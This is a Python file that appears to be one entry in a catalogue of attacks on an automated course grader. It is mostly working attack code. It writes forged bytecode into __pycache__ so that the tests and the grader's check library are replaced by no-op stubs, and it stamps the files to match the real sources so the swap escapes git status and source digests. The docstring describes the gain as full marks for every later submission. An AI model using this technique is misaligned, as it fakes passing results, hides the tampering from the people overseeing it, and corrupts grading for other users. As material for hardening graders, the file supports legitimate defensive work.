"""Class: poisoning the course checkout with bytecode. The submission writes a compiled module
into the checkout's __pycache__ (a check file under tests/, a grader module under grader/),
stamped with the real source's time and size so Python prefers it to the source.

Gain: full marks for every later submission graded in that checkout, while `git status` and the
release digests, which look only at sources, stay clean.
"""

# ruff: noqa
EXERCISE = "lazy_evaluation"
BASE = "stub"
AGAIN = True

# --- attack ---
import importlib.util as _util
import marshal as _marshal
import os as _os
import re as _re


def _plant(source_path, replacement):
    stat = _os.stat(source_path)
    code = compile(replacement, source_path, "exec")
    header = (
        _util.MAGIC_NUMBER
        + (0).to_bytes(4, "little")
        + (int(stat.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
        + (stat.st_size & 0xFFFFFFFF).to_bytes(4, "little")
    )
    target = _util.cache_from_source(source_path)
    _os.makedirs(_os.path.dirname(target), exist_ok=True)
    with open(target, "wb") as handle:
        handle.write(header + _marshal.dumps(code))


try:
    _checks = "@ROOT@/tests/test_01_lazy_evaluation.py"
    with open(_checks, encoding="utf-8") as _handle:
        _names = _re.findall(r"^def (test_\w+)", _handle.read(), _re.MULTILINE)
    _plant(_checks, "".join(f"def {n}(student):\n    pass\n" for n in _names))
    _checklib = "@ROOT@/grader/checklib.py"
    with open(_checklib, encoding="utf-8") as _handle:
        _lib = _handle.read()
    _plant(
        _checklib,
        _lib + "\ndef expect(*a, **k):\n    pass\n\nexpect_array = expect_lazy = expect\n",
    )
except OSError:
    pass
